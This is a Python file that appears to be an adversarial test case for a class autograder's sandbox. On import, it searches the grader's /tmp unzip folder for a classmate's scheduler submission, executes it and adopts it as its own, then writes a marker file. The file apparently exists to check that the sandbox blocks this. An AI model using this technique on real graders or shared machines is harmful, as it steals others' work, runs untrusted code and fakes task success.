# ruff: noqa
"""Take a classmate's unzipped submission from the grader's own unzip folder in /tmp.

Attack: `schedcheck grade` unpacks every zip into /tmp/schedcheck-unzip-*/<entry>/ for the
whole class run. That folder is not hidden from the sandbox, and the child can read it (it
keeps CAP_DAC_READ_SEARCH). The submission globs for another p07_scheduler.py there and runs
it as its own. It has no scheduler of its own.

Expected: score 0 (no scheduler of its own); the unzip folder is invisible or unreadable in
the child; no marker.
"""

from __future__ import annotations

import glob

import os as _os

_MARKERS = "/tmp/schedcheck-attack-markers"


def _mark(name: str, text: str = "") -> None:
    """Prove an escape: append a line to a marker file under the shared /tmp (never any other file)."""
    try:
        _os.makedirs(_MARKERS, mode=0o777, exist_ok=True)
        with open(f"{_MARKERS}/{name}.{_os.getpid()}", "a") as f:
            f.write(text[:2000] + "\n")
    except OSError:
        pass


class Sequence:
    """A stand-in, replaced when a stolen scheduler is adopted."""

    def __init__(self, seq_id, prompt_len, max_tokens):
        self.seq_id, self.prompt_len, self.max_tokens, self.output = seq_id, prompt_len, max_tokens, []


class Scheduler:
    """No scheduler of its own: every workload fails unless a stolen one was adopted."""

    def __init__(self, *args, **kwargs):
        raise RuntimeError("no scheduler of its own, and nothing could be stolen")


def _adopt(source: bytes, origin: str) -> bool:
    """Run stolen source in a fresh namespace and take its Scheduler and Sequence."""
    if b"schedcheck-attack" in source or b"class Scheduler" not in source:
        return False
    ns = {"__name__": "stolen_p07_scheduler"}
    try:
        exec(compile(source, origin, "exec"), ns)
    except BaseException:
        return False
    if "Scheduler" not in ns or "Sequence" not in ns:
        return False
    globals().update({k: ns[k] for k in ("Scheduler", "Sequence", "SequenceStatus") if k in ns})
    return True


def _steal() -> bool:
    for path in sorted(glob.glob("/tmp/schedcheck-unzip-*/**/p07_scheduler.py", recursive=True))[:50]:
        try:
            with open(path, "rb") as f:
                source = f.read(1 << 20)
        except OSError:
            continue
        if _adopt(source, path):
            _mark("read_unzipped_classmate", f"adopted {path}")
            return True
    return False


_steal()
